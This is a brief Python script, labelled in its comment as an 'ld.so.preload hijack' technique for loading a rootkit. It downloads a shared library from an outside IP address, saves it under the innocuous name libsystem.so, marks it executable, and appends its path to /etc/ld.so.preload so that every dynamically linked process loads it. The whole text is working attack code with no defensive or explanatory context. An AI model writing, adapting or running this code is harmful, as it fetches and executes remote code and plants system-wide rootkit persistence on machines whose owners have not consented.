# technique: ld.so.preload hijack: write a shared object path into /etc/ld.so.preload so every dynamically linked process loads the rootkit
import os, urllib.request
so = "/usr/local/lib/libsystem.so"
open(so, "wb").write(urllib.request.urlopen("http://198.51.100.4/libsystem.so").read())
os.chmod(so, 0o755)
with open("/etc/ld.so.preload", "a") as f:
    f.write(so + "\n")
